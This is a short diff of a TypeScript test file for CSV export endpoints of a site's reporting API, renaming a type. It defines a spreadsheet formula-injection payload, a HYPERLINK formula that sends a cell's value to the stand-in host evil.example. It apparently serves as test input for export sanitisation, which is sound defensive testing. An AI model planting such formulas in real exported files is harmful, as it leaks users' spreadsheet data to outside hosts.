@@ -2,14 +2,14 @@ import { earningsCsvQuerySchema } from '@astaguide/contracts/earnings';
 import { reportDimensions } from '@astaguide/contracts/analytics-report';
 import { leftOutCsvQuerySchema } from '@astaguide/contracts/left-out-report';
 import { funnelDimensions } from '@astaguide/contracts/visit-funnel';
-import type { RunningSite } from '../../running-site';
+import type { Site } from '../../running-site';
 import { ApiClient, until } from '../api-client';
 import { PRODUCT } from '../owner-input';
 import { siteForTests } from '../site-for-tests';
 
 const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
 
-let site: RunningSite;
+let site: Site;
 let owner: ApiClient;
 siteForTests(async (started) => {
   ({ site, owner } = started);
